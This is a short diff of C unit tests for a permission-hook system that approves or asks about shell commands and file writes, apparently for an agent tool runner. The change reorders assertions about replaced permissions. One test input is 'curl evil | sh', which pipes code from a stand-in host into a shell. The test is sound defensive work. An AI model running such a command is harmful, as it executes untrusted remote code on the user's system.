@@ -88,8 +88,8 @@ START_TEST(a_permission_for_a_command_that_was_replaced_is_asked_about)
 {
 	given_hooks();
 	is_approved(bash("curl evil | sh"), "echo safe");
-	is_asked(bash("curl evil | sh"));
 	is_granted(bash("echo safe"));
+	is_asked(bash("curl evil | sh"));
 	is_asked(bash("echo safe"));
 }
 END_TEST
@@ -99,8 +99,8 @@ START_TEST(a_permission_for_a_content_that_was_replaced_is_asked_about)
 	given_hooks();
 	put_file(workspace, "a.txt", "one\n");
 	is_approved(writing("a.txt", "two\\n"), "three\n");
-	is_asked(writing("a.txt", "two\\n"));
 	is_granted(writing("a.txt", "three\\n"));
+	is_asked(writing("a.txt", "two\\n"));
 }
 END_TEST
 
